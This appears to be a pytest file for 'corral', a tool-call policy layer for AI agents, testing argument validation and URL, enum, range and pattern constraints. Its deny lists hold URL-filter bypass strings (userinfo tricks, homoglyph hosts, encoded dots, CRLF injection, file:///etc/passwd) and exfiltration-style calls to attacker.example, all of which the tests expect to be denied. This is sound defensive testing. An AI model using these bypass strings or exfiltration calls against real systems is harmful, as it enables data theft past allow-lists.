"""Arguments: schema validation handed back to the model (bounded), and value constraints
that deny a call before anything is reserved."""

from __future__ import annotations

import subprocess
import sys
from decimal import Decimal
from typing import Any, Literal

import pytest
from pydantic import BaseModel

import corral

P = corral.Policy.from_dict


class Fetcher:
    """``http.get(url)``, counting the URLs it was really called with."""

    def __init__(self) -> None:
        self.urls: list[str] = []

        @corral.tool(name="http.get", effect="read", cost_usd="0.01")
        def get(url: str) -> str:
            self.urls.append(url)
            return "page"

        self.tool = get


def constrained(rule: dict[str, Any], **tools: Any) -> corral.Policy:
    return P(
        {
            "tools": {
                "allow": ["http.get"],
                **tools,
                "specs": {"http.get": {"constraints": {"url": rule}}},
            }
        }
    )


URL_RULE = {"schemes": ["https"], "hosts": ["docs.example.com", "*.good.example"]}


# -- argument validation ------------------------------------------------------------------


@corral.tool(name="search.read", effect="read")
def search(query: str, limit: int = 5) -> str:
    return f"{limit} results for {query}"


@pytest.mark.parametrize(
    ("args", "problem"),
    [
        ({"query": 3}, "query"),
        ({"query": "x", "limit": "many"}, "limit"),
        ({"query": "x", "limit": 2.5}, "limit"),
        ({}, "query: field required"),
        ({"query": "x", "sort": "asc"}, "sort: unknown argument"),
        (["x"], "must be a JSON object, got list"),
        (7, "must be a JSON object, got int"),
        (b'{"query": "x"}', "must be a JSON object, got bytes"),
        ("query=x", "not valid JSON"),
        ('{"query": "x"', "not valid JSON"),
        ('["x"]', "must be a JSON object, got list"),
        ({"query": None}, "query"),
        ("[" * 100_000, "nested too deeply"),
    ],
)
def test_invalid_arguments_are_handed_back_to_the_model(store, args, problem):
    """Each kind of bad argument is a ``ToolRejected`` naming the problem; nothing runs."""
    with corral.Run(P({"tools": {"allow": ["search.read"]}}), tools=[search], store=store) as run:
        with pytest.raises(corral.ToolRejected) as rejected:
            run.call("search.read", args)
        assert rejected.value.reason == "invalid_tool_args"
        assert problem in rejected.value.message
        assert run.usage.tool_calls == 0


def test_valid_raw_json_arguments_are_accepted(store):
    """Arguments may arrive as the model's raw JSON text."""
    with corral.Run(P({"tools": {"allow": ["search.read"]}}), tools=[search], store=store) as run:
        assert run.call("search.read", '{"query": "x", "limit": 2}') == "2 results for x"


def test_invalid_arguments_stop_the_run_after_max_invalid_args(store):
    """After ``max_invalid_args`` hand-backs the run stops with ``invalid_tool_args``."""
    policy = P({"tools": {"allow": ["search.read"], "max_invalid_args": 1}})
    with corral.Run(policy, tools=[search], store=store) as run:
        with pytest.raises(corral.ToolRejected):
            run.call("search.read", {"query": 1})
        run.call("search.read", {"q": "x"})
    stop = run.result.stop
    assert str(stop) == "invalid_tool_args:search.read"
    assert stop.extra["problems"]
    assert run.result.usage.tool_calls == 0


def test_an_explicit_json_schema_replaces_the_type_hints(store):
    """``args_schema`` is what the arguments are checked against."""
    seen = []
    schema = {
        "type": "object",
        "properties": {"sku": {"type": "string", "pattern": "^[A-Z]{3}-[0-9]+$"}},
        "required": ["sku"],
        "additionalProperties": False,
    }

    @corral.tool(name="stock.read", effect="read", args_schema=schema)
    def stock(**kwargs: Any) -> str:
        seen.append(kwargs)
        return "12 left"

    with corral.Run(
        P({"tools": {"allow": ["stock.read"], "max_invalid_args": 5}}), tools=[stock], store=store
    ) as run:
        for bad in ({"sku": "abc-1"}, {}, {"sku": "ABC-1", "extra": 1}, {"sku": 5}):
            with pytest.raises(corral.ToolRejected):
                run.call("stock.read", bad)
        assert run.call("stock.read", {"sku": "ABC-12"}) == "12 left"
    assert seen == [{"sku": "ABC-12"}]


def test_literal_hints_become_an_enumeration(store):
    """A ``Literal`` parameter refuses values outside it."""

    @corral.tool(name="sort.read", effect="read")
    def sort(order: Literal["asc", "desc"]) -> str:
        return order

    with corral.Run(P({"tools": {"allow": ["sort.read"]}}), tools=[sort], store=store) as run:
        with pytest.raises(corral.ToolRejected):
            run.call("sort.read", {"order": "random"})
        assert run.call("sort.read", {"order": "desc"}) == "desc"


# -- URL constraints ----------------------------------------------------------------------

ALLOWED_URLS = [
    "https://docs.example.com/page",
    "https://DOCS.EXAMPLE.COM/page",  # host names are case-insensitive
    "HTTPS://docs.example.com/",  # so are schemes
    "https://docs.example.com./page",  # one trailing dot: the same host
    "https://a.good.example/",
    "https://deep.sub.good.example/x?y=1#z",
    "https://docs.example.com:443/",
    "https://docs.example.com:8443/",  # any valid port on an allowed host
]

DENIED_URLS = [
    ("http://docs.example.com/", "scheme"),
    ("ftp://docs.example.com/", "scheme"),
    ("javascript:alert(1)//docs.example.com", "scheme"),
    ("//docs.example.com/", "scheme"),
    ("https://evil.example/", "not in the allowed hosts"),
    ("https://good.example/", "not in the allowed hosts"),  # *.x is subdomains only
    ("https://evilgood.example/", "not in the allowed hosts"),
    ("https://docs.example.com.evil.example/", "not in the allowed hosts"),
    ("https://good.example@evil.example/", "credentials"),  # the userinfo trick
    ("https://docs.example.com@evil.example/", "credentials"),
    ("https://user:pw@docs.example.com/", "credentials"),
    ("https://@docs.example.com/", "credentials"),
    ("https://x.good.example%2f@evil.example", "credentials"),
    ("https://evil.example#@docs.example.com", "not in the allowed hosts"),
    ("https://evil.example?@docs.example.com", "not in the allowed hosts"),
    ("https://dоcs.example.com/", "ASCII"),  # Cyrillic о
    ("https://ａ.good.example/", "ASCII"),  # fullwidth a
    ("https://docs。example.com/", "ASCII"),  # ideographic full stop
    ("https://docs.example.com\u200b/", "ASCII"),  # zero-width space
    ("https://xn--dcs-5cd.example.com/", "not in the allowed hosts"),  # punycode look-alike
    ("https://docs%2Eexample%2Ecom/", "ASCII"),
    ("https://docs.example.com%2eevil.example/", "ASCII"),
    ("https://docs.example.com../", "ASCII"),  # two trailing dots
    ("https://a..good.example/", "ASCII"),
    ("https://.good.example/", "ASCII"),
    ("https://docs.example.com\\@evil.example/", "backslash"),
    ("https://evil.example\\docs.example.com", "backslash"),
    (" https://docs.example.com/", "spaces"),
    ("https://docs.example.com\t/", "spaces"),
    ("https://docs.example.com\r\n.evil.example/", "spaces"),
    ("https://docs.example.com\x00.evil.example/", "control"),
    ("https://docs.example.com:99999/", "not a valid URL"),
    ("https://docs.example.com:+443/", "not a valid URL"),
    ("https://docs.example.com:0/", "port 0"),
    ("https://[::1]/", "ASCII"),
    ("https://127.0.0.1/", "not in the allowed hosts"),
    ("https:docs.example.com", "no host"),
    ("https:///docs.example.com/x", "no host"),
    ("", "no host"),
]


@pytest.mark.parametrize("url", ALLOWED_URLS)
def test_urls_on_allowed_hosts_and_schemes_run(store, url):
    """An https URL on an allowed host (or a proper subdomain of a wildcard) runs."""
    fetcher = Fetcher()
    with corral.Run(constrained(URL_RULE), tools=[fetcher.tool], store=store) as run:
        assert run.call("http.get", {"url": url}) == "page"
    assert fetcher.urls == [url]


@pytest.mark.parametrize(("url", "why"), DENIED_URLS)
def test_urls_outside_the_constraints_are_denied_before_anything_is_reserved(store, url, why):
    """A URL off the allowed hosts or schemes, or one a client could read two ways, is denied."""
    fetcher = Fetcher()
    with corral.Run(constrained(URL_RULE), tools=[fetcher.tool], store=store) as run:
        run.call("http.get", {"url": url})
    stop = run.result.stop
    assert (stop.detail, stop.why) == ("http.get", "argument_not_allowed")
    assert str(stop) == f"tool_denied:http.get (argument_not_allowed: {stop.extra['note']})"
    assert stop.extra["argument"] == "url"
    assert str(stop).isascii() and str(stop).isprintable()  # one plain line, look-alikes escaped
    assert why in stop.message
    assert fetcher.urls == []
    assert (run.result.usage.tool_calls, run.result.usage.usd) == (0, 0)


def test_a_constraint_denial_can_be_handed_back_to_the_model(store):
    """With ``on_denied: tell_model`` the model hears why, and may fix the URL."""
    fetcher = Fetcher()
    with corral.Run(
        constrained(URL_RULE, on_denied="tell_model"), tools=[fetcher.tool], store=store
    ) as run:
        with pytest.raises(corral.ToolRejected) as rejected:
            run.call("http.get", {"url": "https://attacker.example/?q=secret"})
        assert rejected.value.detail == "argument_not_allowed"
        assert "attacker.example" in rejected.value.message
        assert run.call("http.get", {"url": "https://docs.example.com/"}) == "page"
    assert fetcher.urls == ["https://docs.example.com/"]


def test_schemes_alone_constrain_only_the_scheme(store):
    """With only ``schemes``, any host is fine but the scheme and the userinfo trick are not."""
    fetcher = Fetcher()
    policy = constrained({"schemes": ["https"]}, on_denied="tell_model", max_invalid_args=5)
    with corral.Run(policy, tools=[fetcher.tool], store=store) as run:
        assert run.call("http.get", {"url": "https://anywhere.example/"}) == "page"
        for bad in ("file:///etc/passwd", "https://ok.example@evil.example/"):
            with pytest.raises(corral.ToolRejected):
                run.call("http.get", {"url": bad})
    assert fetcher.urls == ["https://anywhere.example/"]


def test_a_url_constraint_on_a_non_string_value_denies_it(store):
    """A URL constraint on something that is not text denies it instead of skipping it."""

    @corral.tool(name="http.get", effect="read")
    def get(url: Any) -> str:
        return "page"

    with corral.Run(constrained(URL_RULE), tools=[get], store=store) as run:
        run.call("http.get", {"url": ["https://docs.example.com/"]})
    assert run.result.stop.extra["why"] == "argument_not_allowed"


# -- other constraints --------------------------------------------------------------------


def limited(constraints: dict[str, Any]) -> corral.Policy:
    return P(
        {
            "tools": {
                "allow": ["pay.read"],
                "on_denied": "tell_model",
                "max_invalid_args": 99,
                "specs": {"pay.read": {"constraints": constraints}},
            }
        }
    )


class Payments:
    """``pay.read(amount, currency, memo, tags)``, recording what it really received."""

    def __init__(self) -> None:
        self.seen: list[dict[str, Any]] = []

        @corral.tool(name="pay.read", effect="read")
        def pay(
            amount: float = 1,
            currency: Any = "EUR",
            memo: str = "",
            tags: list[str] | None = None,
            exact: Decimal = Decimal(1),
        ) -> str:
            self.seen.append({"amount": amount, "currency": currency, "memo": memo})
            return "ok"

        self.tool = pay


def _outcome(policy: corral.Policy, args: dict[str, Any], store: Any) -> str:
    payments = Payments()
    with corral.Run(policy, tools=[payments.tool], store=store) as run:
        try:
            run.call("pay.read", args)
        except corral.ToolRejected as rejected:
            assert rejected.detail == "argument_not_allowed"
            assert payments.seen == []
            return "denied"
    assert len(payments.seen) == 1
    return "ran"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"currency": "EUR"}, "ran"),
        ({"currency": "USD"}, "ran"),
        ({"currency": "usd"}, "denied"),
        ({"currency": "JPY"}, "denied"),
        ({"currency": 1}, "denied"),
        ({"currency": True}, "denied"),  # True == 1 in Python, not in an enumeration
    ],
)
def test_enum_constraints(store, args, expected):
    """An enumeration allows exactly its values."""
    policy = limited({"currency": {"enum": ["EUR", "USD", 1.5]}})
    assert _outcome(policy, args, store) == expected


def test_enum_constraints_do_not_confuse_booleans_and_numbers(store):
    """``enum: [1]`` does not allow ``true``, and ``enum: [true]`` does not allow ``1``."""
    assert _outcome(limited({"currency": {"enum": [1]}}), {"currency": True}, store) == "denied"
    assert _outcome(limited({"currency": {"enum": [True]}}), {"currency": 1}, store) == "denied"
    assert _outcome(limited({"currency": {"enum": [1]}}), {"currency": 1}, store) == "ran"


@pytest.mark.parametrize(
    ("amount", "expected"),
    [
        (1, "ran"),
        (100, "ran"),
        (0.5, "denied"),
        (100.01, "denied"),
        (-5, "denied"),
        (float("nan"), "denied"),
        (float("inf"), "denied"),
        (float("-inf"), "denied"),
        (10**30, "denied"),
    ],
)
def test_range_constraints(store, amount, expected):
    """``min`` / ``max`` bound a number; NaN and infinities are never within a range."""
    assert (
        _outcome(limited({"amount": {"min": 1, "max": 100}}), {"amount": amount}, store) == expected
    )


def test_range_constraints_accept_decimals(store):
    """A ``Decimal`` parameter is a number to a range constraint."""
    policy = limited({"exact": {"min": 0, "max": 10}})
    assert _outcome(policy, {"exact": "9.99"}, store) == "ran"
    assert _outcome(policy, {"exact": "10.01"}, store) == "denied"


def test_range_constraints_apply_to_defaults(store):
    """A default value is checked like a given one."""
    assert _outcome(limited({"amount": {"min": 5}}), {}, store) == "denied"


@pytest.mark.parametrize(
    ("memo", "expected"),
    [
        ("INV-123", "ran"),
        ("INV-123\n", "denied"),  # the whole value must match
        ("xINV-123", "denied"),
        ("INV-", "denied"),
        ("INV-12345678901234567890", "denied"),  # max_length
    ],
)
def test_pattern_and_max_length_constraints(store, memo, expected):
    """``pattern`` must match the whole value; ``max_length`` caps it."""
    policy = limited({"memo": {"pattern": "INV-[0-9]+", "max_length": 12}})
    assert _outcome(policy, {"memo": memo}, store) == expected


def test_max_length_caps_lists(store):
    """``max_length`` also caps a list."""
    policy = limited({"tags": {"max_length": 2}})
    assert _outcome(policy, {"tags": ["a", "b"]}, store) == "ran"
    assert _outcome(policy, {"tags": ["a", "b", "c"]}, store) == "denied"


def test_constraints_judge_the_value_the_tool_receives(store):
    """A value the schema coerced is checked as coerced: ``"500"`` is 500, over the max."""
    assert _outcome(limited({"amount": {"max": 100}}), {"amount": "500"}, store) == "denied"


def test_a_denied_argument_holds_no_budget_and_asks_no_approval(store):
    """The constraint check comes before approval and reservation."""
    asked = []

    @corral.tool(name="mail.send", effect="write", cost_usd="1")
    def send(to: str) -> str:
        return "sent"

    policy = P(
        {
            "tools": {
                "allow": ["mail.send"],
                "specs": {"mail.send": {"constraints": {"to": {"pattern": r"[^@]+@example\.com"}}}},
            },
            "budgets": {"max_usd": 1},
        }
    )
    with corral.Run(policy, tools=[send], store=store, approver=asked.append) as run:
        run.call("mail.send", {"to": "exfil@attacker.example"})
    assert run.result.stop.extra["why"] == "argument_not_allowed"
    assert asked == []
    assert run.result.usage.usd == 0


def test_a_policy_args_schema_narrows_what_the_code_accepts(store):
    """``tools.specs.<name>.args_schema`` is enforced on top of the tool's own schema."""
    policy = P(
        {
            "tools": {
                "allow": ["search.read"],
                "max_invalid_args": 5,
                "specs": {
                    "search.read": {
                        "args_schema": {"type": "object", "properties": {"limit": {"maximum": 10}}}
                    }
                },
            }
        }
    )
    with corral.Run(policy, tools=[search], store=store) as run:
        with pytest.raises(corral.ToolRejected) as rejected:
            run.call("search.read", {"query": "x", "limit": 50})
        assert "limit" in rejected.value.message
        assert run.call("search.read", {"query": "x", "limit": 3}) == "3 results for x"


def test_a_constraint_on_an_argument_the_tool_does_not_take_is_a_config_error(store):
    """A misspelt argument in ``constraints`` would never apply: it fails at start."""
    fetcher = Fetcher()
    policy = P(
        {
            "tools": {
                "allow": ["http.get"],
                "specs": {"http.get": {"constraints": {"uri": {"hosts": ["docs.example.com"]}}}},
            }
        }
    )
    with pytest.raises(corral.ConfigError, match=r"tools\.specs\.http\.get\.constraints\.uri"):
        corral.Run(policy, tools=[fetcher.tool], store=store)


class Query(BaseModel):
    """A tool's arguments as a pydantic model: its default schema has no
    ``additionalProperties: false``, so any argument name is valid JSON Schema."""

    url: str
    timeout: float = 10


def open_schema_fetcher(schema: dict[str, Any]) -> Any:
    @corral.tool(name="http.get", effect="read", args_schema=schema)
    def get(**kwargs: Any) -> str:
        return "page"

    return get


def with_constraints(constraints: dict[str, Any]) -> corral.Policy:
    return P(
        {"tools": {"allow": ["http.get"], "specs": {"http.get": {"constraints": constraints}}}}
    )


def test_a_misspelt_constraint_is_an_error_also_when_the_tools_schema_is_open(store):
    """A pydantic model's schema admits any argument name; a constraint on ``uri`` (the tool
    takes ``url``) still fails at start, naming what the tool takes."""
    tool = open_schema_fetcher(Query.model_json_schema())
    assert "additionalProperties" not in tool.args_schema
    policy = with_constraints({"uri": {"hosts": ["docs.example.com"]}})
    with pytest.raises(corral.ConfigError) as raised:
        corral.Run(policy, tools=[tool], store=store)
    assert (
        "tools.specs.http.get.constraints.uri: http.get takes no argument 'uri' "
        "(it takes timeout, url)"
    ) in str(raised.value)


def test_a_constraint_on_a_declared_argument_of_an_open_schema_is_enforced(store):
    """With the argument under ``properties`` (or matched by ``patternProperties``, or
    inside an ``allOf`` branch) the constraint starts and applies."""
    schemas = [
        Query.model_json_schema(),
        {"type": "object", "patternProperties": {"^u[a-z]+$": {"type": "string"}}},
        {"allOf": [{"type": "object", "properties": {"url": {"type": "string"}}}]},
    ]
    for schema in schemas:
        policy = with_constraints({"url": {"hosts": ["docs.example.com"]}})
        with corral.Run(policy, tools=[open_schema_fetcher(schema)], store=store) as run:
            run.call("http.get", {"url": "https://evil.example/"})
        assert run.result.stop.why == "argument_not_allowed", schema


def test_a_constraint_on_a_tool_whose_schema_names_no_argument_is_an_error(store):
    """``{"type": "object"}`` declares nothing: a constraint there could only be a guess."""
    policy = with_constraints({"url": {"hosts": ["docs.example.com"]}})
    with pytest.raises(corral.ConfigError, match="its schema names no argument"):
        corral.Run(policy, tools=[open_schema_fetcher({"type": "object"})], store=store)


def test_corral_check_with_tools_reports_a_constraint_on_an_argument_the_tool_lacks(tmp_path):
    """``corral check FILE --tools m:o`` exits 2 with one line for the misspelt constraint,
    as the run would refuse to start with it."""
    (tmp_path / "mytools.py").write_text(
        "import corral\n"
        "from pydantic import BaseModel\n"
        "class Query(BaseModel):\n"
        "    url: str\n"
        "@corral.tool(name='http.get', effect='read', args_schema=Query.model_json_schema())\n"
        "def get(**kwargs):\n"
        "    return 'page'\n"
        "TOOLS = [get]\n"
    )
    policy_file = tmp_path / "corral.yaml"
    policy_file.write_text(
        "tools:\n  allow: [http.get]\n  specs:\n    http.get:\n"
        "      constraints: {uri: {hosts: [docs.example.com]}}\n"
    )
    argv = [sys.executable, "-m", "corral", "check", str(policy_file), "--tools", "mytools:TOOLS"]
    proc = subprocess.run(argv, capture_output=True, text=True, cwd=tmp_path, timeout=60)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert (
        "tools.specs.http.get.constraints.uri: http.get takes no argument 'uri' (it takes url)"
    ) in proc.stdout.splitlines()
    policy_file.write_text(policy_file.read_text().replace("uri:", "url:"))
    proc = subprocess.run(argv, capture_output=True, text=True, cwd=tmp_path, timeout=60)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_constraints_on_a_tool_described_only_by_the_policy_are_checked_and_enforced(store):
    """A remote tool (``args_schema`` in the policy, no code): a constraint on an argument
    its schema lacks fails at start; one on a declared argument denies at ``authorize``."""

    def described(arg: str) -> corral.Policy:
        spec = {
            "effect": "read",
            "args_schema": {"type": "object", "properties": {"url": {"type": "string"}}},
            "constraints": {arg: {"hosts": ["docs.example.com"]}},
        }
        return P({"tools": {"allow": ["web.get"], "specs": {"web.get": spec}}})

    with pytest.raises(corral.ConfigError, match=r"web\.get takes no argument 'uri'"):
        corral.Run(described("uri"), store=store)
    with corral.Run(described("url"), store=store) as run:
        run.authorize("web.get", {"url": "docs.example.com.evil.example/x"})
    assert str(run.result.stop) == (
        "tool_denied:web.get (argument_not_allowed: host docs.example.com.evil.example)"
    )
